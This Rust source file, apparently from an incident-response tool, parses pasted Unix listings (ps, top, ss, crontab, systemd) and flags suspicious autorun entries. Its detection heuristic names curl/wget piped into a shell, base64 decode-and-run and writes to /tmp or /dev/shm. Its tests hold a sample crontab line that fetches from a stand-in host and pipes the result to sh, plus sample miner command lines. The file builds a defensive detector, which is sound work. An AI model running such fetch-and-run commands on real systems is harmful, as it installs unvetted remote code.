//! Reads what commands of a Unix system printed: processes, connections, entries that start something.

use crate::text::{Text, beginning};
use crate::{Certainty, Intake, Opened, Reader, ReaderUnit, Source};
use model::{
    At, Autorun, Endpoint, EvidenceId, Executable, Fact, Listener, Machine, Mechanism, Message, Meta,
    Observation, Orders, OrdersFrom, Origin, Process, Reach, Time, UnitKind,
};
use parse::app::carve::{self, orders_in};
use parse::text::pasted::{Entry, Listed, Pasted, Row, Socket};
use std::collections::{BTreeMap, BTreeSet};
use std::net::{IpAddr, SocketAddr};

pub(crate) static UNIT: ReaderUnit = ReaderUnit {
    meta: Meta {
        id: "pasted",
        kind: UnitKind::Reader,
        summary: "pasted-summary",
        doc: include_str!("pasted.md"),
        doc_zh: include_str!("pasted.zh.md"),
        since: "0.1.0",
        messages: &[UNREADABLE, LINES_UNREAD, TOO_MANY, NO_OWNER, LOGINS_UNUSED],
        parameters: &[],
    },
    probe,
    begins,
    open,
};

/// It looked like a listing, and is none.
const UNREADABLE: &str = "pasted-unreadable";
/// Lines that do not fit their table.
const LINES_UNREAD: &str = "pasted-lines-unread";
/// More processes or sockets than are kept.
const TOO_MANY: &str = "pasted-too-many";
/// Connections whose process the listing does not name.
const NO_OWNER: &str = "pasted-no-owner";
/// Logins, which nothing is concluded from.
const LOGINS_UNUSED: &str = "pasted-logins-unused";

/// Processes, sockets and entries kept of one text.
const MOST: usize = 16_384;
/// Connections kept of one process (as `model::Process` says).
const CONNECTIONS: usize = 64;
/// Addresses of one machine.
const ADDRESSES: usize = 16;

/// Programs that look for text or show it, and shells that are given a line: what stands behind them is quoted.
const QUOTING: [&str; 30] = [
    "ack", "ag", "ash", "awk", "bash", "cat", "dash", "echo", "ed", "egrep", "emacs", "fgrep", "find",
    "gawk", "grep", "head", "less", "mawk", "more", "nano", "perl", "pgrep", "printf", "rg", "sed", "sh",
    "tail", "vi", "vim", "zsh",
];

fn probe(head: &[u8]) -> Certainty {
    match beginning(head).and_then(|text| Pasted::of(&text)) {
        // A crontab has no head of its own: what is more certain comes first.
        Some(pasted) if pasted.is_crontab() => Certainty::Unsure,
        Some(_) => Certainty::Certain,
        None => Certainty::No,
    }
}

/// Listings show times of day at most.
fn begins(_: &[u8]) -> Option<Time> {
    None
}

fn open(evidence: EvidenceId, head: &[u8]) -> Opened {
    let pasted =
        beginning(head).and_then(|text| Pasted::of(&text)).ok_or_else(|| Message::new(UNREADABLE))?;
    Ok(Box::new(Listing { evidence, text: Text::default(), pasted, all: All::default() }))
}

struct Listing {
    evidence: EvidenceId,
    text: Text,
    pasted: Pasted,
    all: All,
}

/// Everything that the listings say.
#[derive(Default)]
struct All {
    name: Option<String>,
    addresses: BTreeSet<IpAddr>,
    /// By number and name; with the line. A number may be unknown.
    processes: BTreeMap<(Option<u32>, String), (Process, u64)>,
    listeners: Vec<(Listener, u64)>,
    entries: Vec<(Autorun, u64)>,
    records: u64,
    unread: Option<(u64, u64)>,
    left_out: u64,
    no_owner: u64,
    logins: u64,
}

impl Reader for Listing {
    fn step(&mut self, source: &mut Source, intake: &mut Intake) -> bool {
        let Listing { text, pasted, all, .. } = self;
        let before = all.records;
        let more = text.step(source, &mut |number, line| all.row(number, pasted.line(line)));
        intake.records = all.records - before;
        if !more {
            let evidence = self.evidence;
            self.all.tell(intake, &mut |at, fact| Observation {
                time: Time::UNKNOWN,
                origin: Origin { evidence, at },
                fact,
            });
        }
        more
    }
}

impl All {
    fn row(&mut self, number: u64, row: Row) {
        self.records += u64::from(!matches!(row, Row::Familiar | Row::Prompt(_) | Row::Unread));
        match row {
            Row::Process(listed) => self.process(number, listed),
            Row::Socket(socket) => self.socket(number, socket),
            Row::Entry(entry) => self.entry(number, entry),
            Row::Unit { name, sub, description } => {
                let mut unit = autorun("systemd-unit", name, description);
                unit.when = Some(sub);
                self.keep_entry(number, unit);
            }
            Row::Login => self.logins += 1,
            Row::Prompt(name) => self.name = Some(name),
            Row::Familiar => {}
            Row::Unread => {
                self.unread.get_or_insert((number, 0)).1 += 1;
            }
        }
    }

    fn process(&mut self, number: u64, listed: Listed) {
        let Some(process) = self.of(number, listed.pid, &listed.name) else { return };
        process.parent = listed.parent.unwrap_or(process.parent);
        process.user = listed.user.as_ref().and_then(|user| user.parse().ok()).or(process.user);
        process.user_name =
            listed.user.clone().filter(|user| user.parse::<u32>().is_err()).or(process.user_name.take());
        // The last of several pictures of `top` is the one to believe: the first counts from the start.
        process.cpu.observed = listed.observed.or(process.cpu.observed);
        process.cpu.since_start = listed.since_start.unwrap_or(process.cpu.since_start);
        process.cpu.seconds = listed.seconds.unwrap_or(process.cpu.seconds);
        process.cpu.nice = listed.nice.unwrap_or(process.cpu.nice);
        if listed.command.len() > process.command.len() {
            process.orders = orders(&listed);
            process.command = listed.command;
        }
    }

    fn socket(&mut self, number: u64, socket: Socket) {
        if let Some(local) = socket.local.filter(|_| socket.is_connection()) {
            self.own_address(local.ip());
        }
        let Some(name) = socket.name.clone() else {
            self.no_owner += u64::from(socket.is_connection());
            return;
        };
        if socket.listens
            && let Some(local) = socket.local
        {
            if self.listeners.len() < MOST {
                let process = socket.pid.map(|pid| (pid, name.clone()));
                let listener = Listener { address: endpoint(local), udp: socket.udp, process, started: None };
                self.listeners.push((listener, number));
            } else {
                self.left_out += 1;
            }
        }
        let Some(process) = self.of(number, socket.pid, &name) else { return };
        if let (Some(path), None) = (&socket.executable, &process.executable) {
            process.executable = Some(Executable { path: path.clone(), ..Executable::default() });
        }
        if socket.is_connection()
            && let Some(peer) = socket.peer
            && process.connections.len() < CONNECTIONS
        {
            let local = socket.local.unwrap_or(SocketAddr::from(([0, 0, 0, 0], 0)));
            process.connections.push((endpoint(local), endpoint(peer)));
        }
    }

    fn entry(&mut self, number: u64, entry: Entry) {
        let mut found = autorun("cron", "crontab".to_owned(), entry.runs);
        found.user = entry.user;
        found.when = Some(entry.when);
        found.line = Some(number);
        self.keep_entry(number, found);
    }

    fn keep_entry(&mut self, number: u64, entry: Autorun) {
        if self.entries.len() < MOST {
            self.entries.push((entry, number));
        } else {
            self.left_out += 1;
        }
    }

    /// The process of this number; of one whose number is not known, of this name.
    fn of(&mut self, number: u64, pid: Option<u32>, name: &str) -> Option<&mut Process> {
        // `netstat` and `lsof` cut names short: a number is one process, whatever the listing calls it.
        let known = pid.and_then(|pid| {
            let from = (Some(pid), String::new());
            self.processes.range(from..).next().map(|(key, _)| key.clone()).filter(|key| key.0 == Some(pid))
        });
        let key = known.unwrap_or_else(|| (pid, name.to_owned()));
        if !self.processes.contains_key(&key) && self.processes.len() >= MOST {
            self.left_out += 1;
            return None;
        }
        let new = || {
            let process = Process { pid: pid.unwrap_or(0), name: name.to_owned(), ..Process::default() };
            (process, number)
        };
        Some(&mut self.processes.entry(key).or_insert_with(new).0)
    }

    /// An address of the machine itself; the bridge that Docker makes unless told otherwise is none that tells it apart.
    fn own_address(&mut self, address: IpAddr) {
        let bridge = matches!(address, IpAddr::V4(v4) if v4.octets()[..2] == [172, 17]);
        let local = address.is_loopback() || address.is_unspecified() || address.is_multicast();
        if !bridge && !local && self.addresses.len() < ADDRESSES {
            self.addresses.insert(address);
        }
    }

    fn tell(&mut self, intake: &mut Intake, seen: &mut dyn FnMut(At, Fact) -> Observation) {
        if let Some((line, count)) = self.unread {
            intake.gaps.add_many(At::Line(line), Message::new(LINES_UNREAD), count);
        }
        intake.gaps.add_many(At::Whole, Message::new(TOO_MANY), self.left_out);
        intake.gaps.add_many(At::Whole, Message::new(NO_OWNER), self.no_owner);
        intake.gaps.add_many(At::Whole, Message::new(LOGINS_UNUSED), self.logins);
        let machine = Machine {
            name: self.name.take(),
            addresses: std::mem::take(&mut self.addresses).into_iter().collect(),
            reach: Reach::Told,
            processes: u32::try_from(self.processes.len()).unwrap_or(u32::MAX),
            ..Machine::default()
        };
        intake.observations.push(seen(At::Whole, Fact::Machine(Box::new(machine))));
        for (process, line) in std::mem::take(&mut self.processes).into_values() {
            intake.observations.push(seen(At::Line(line), Fact::Process(Box::new(process))));
        }
        for (listener, line) in self.listeners.drain(..) {
            intake.observations.push(seen(At::Line(line), Fact::Listener(Box::new(listener))));
        }
        for (entry, line) in self.entries.drain(..) {
            intake.observations.push(seen(At::Line(line), Fact::Autorun(Box::new(entry))));
        }
    }
}

/// Orders in a command line of which only the text is known.
fn orders(listed: &Listed) -> Vec<Orders> {
    if QUOTING.contains(&listed.name.as_str()) {
        return Vec::new();
    }
    commanded(&listed.command.join(" "))
}

/// The orders in a command.
fn commanded(command: &str) -> Vec<Orders> {
    let told =
        |found: carve::Orders| Orders { pool: found.pool, login: found.login, from: OrdersFrom::Command };
    orders_in(command).map(told).into_iter().collect()
}

fn autorun(mechanism: &'static str, path: String, runs: String) -> Autorun {
    let files = runs.split([' ', ';', '|', '&', '"', '\'', '(', ')']).filter(|word| word.starts_with('/'));
    Autorun {
        mechanism: Mechanism(mechanism),
        path,
        files: files.map(str::to_owned).take(8).collect(),
        orders: if mechanism == "cron" { commanded(&runs) } else { Vec::new() },
        odd: odd(&runs),
        runs,
        ..Autorun::default()
    }
}

/// What is odd about a command by its own text (`Autorun::ODDITIES`).
fn odd(runs: &str) -> Vec<&'static str> {
    let words: Vec<&str> =
        runs.split(|letter: char| !(letter.is_alphanumeric() || "-_./".contains(letter))).collect();
    let has =
        |wanted: &[&str]| words.iter().any(|word| wanted.contains(&word.rsplit('/').next().unwrap_or(word)));
    let behind_pipe = runs.rsplit('|').next().unwrap_or_default();
    let shell = runs.contains('|')
        && behind_pipe.split_whitespace().next().is_some_and(|word| {
            ["sh", "bash", "dash", "python", "python3", "perl"]
                .contains(&word.rsplit('/').next().unwrap_or(word))
        });
    let mut odd = Vec::new();
    if shell && has(&["curl", "wget", "wget1", "cdt", "fetch", "lwp-download"]) {
        odd.push("fetches-and-runs");
    }
    if shell && has(&["base64", "xxd", "openssl"]) {
        odd.push("decodes-and-runs");
    }
    let at = |begins: &[&str]| words.iter().any(|word| begins.iter().any(|begin| word.starts_with(begin)));
    if at(&["/tmp/", "/var/tmp/", "/dev/shm/"]) {
        odd.push("writable-folder");
    }
    if words.iter().any(|word| word.starts_with('/') && word.contains("/.")) {
        odd.push("hidden-file");
    }
    odd
}

fn endpoint(end: SocketAddr) -> Endpoint {
    Endpoint::new(end.ip(), end.port())
}

#[cfg(test)]
mod tests {
    use super::*;

    const HIT: &str = "USER PID %CPU %MEM VSZ RSS TTY STAT START TIME COMMAND\nroot 1 0.0 0.1 1 2 ? Ss Oct25 0:03 /sbin/init\n";
    const MISS: &str = "Every USER has a PID.\nWho gives the COMMAND?\n";

    fn all(text: &str) -> All {
        let (mut pasted, mut all) = (Pasted::of(text).unwrap_or_default(), All::default());
        text.lines().zip(1..).for_each(|(line, number)| all.row(number, pasted.line(line)));
        all
    }

    #[test]
    fn evidence_is_recognised_and_its_neighbour_is_not() {
        assert_ne!(probe(HIT.as_bytes()), Certainty::No);
        assert_eq!(probe(MISS.as_bytes()), Certainty::No);
    }

    #[test]
    fn what_a_command_line_orders_and_what_it_quotes() {
        let all = all("PID COMMAND\n\
            4 ./x -o stratum+tcp://pool.example:3333 -u W\n\
            5 grep -o stratum+tcp://pool.example:3333 -u W\n\
            6 sh -c ./x -o stratum+tcp://pool.example:3333 -u W\n");
        let orders: Vec<usize> = all.processes.values().map(|(process, _)| process.orders.len()).collect();
        assert_eq!(orders, [1, 0, 0]);
    }

    #[test]
    fn a_connection_belongs_to_its_process() {
        let all = all("PID COMMAND\n4 ./a-name-that-is-rather-long\n\
            Netid State Recv-Q Send-Q Local Address:Port Peer Address:Port\n\
            tcp ESTAB 0 0 10.0.0.7:40000 198.51.100.9:3333 users:((\"a-name-that-is-\",pid=4,fd=3))\n\
            tcp ESTAB 0 0 10.0.0.7:40001 198.51.100.9:3334\n");
        assert_eq!((all.processes.len(), all.no_owner), (1, 1));
        assert!(all.processes.values().all(|(process, _)| process.connections.len() == 1));
        assert!(all.addresses.iter().map(ToString::to_string).eq(["10.0.0.7"]));
    }

    #[test]
    fn an_entry_that_fetches_and_runs() {
        let all = all(
            "*/15 * * * * (curl -fsSL https://a.example/x||wget -q -O- https://a.example/x)|sh\n0 1 * * * /opt/backup | gzip\n",
        );
        let odd: Vec<Vec<&str>> = all.entries.iter().map(|(entry, _)| entry.odd.clone()).collect();
        assert_eq!(odd, [vec!["fetches-and-runs"], vec![]]);
    }
}
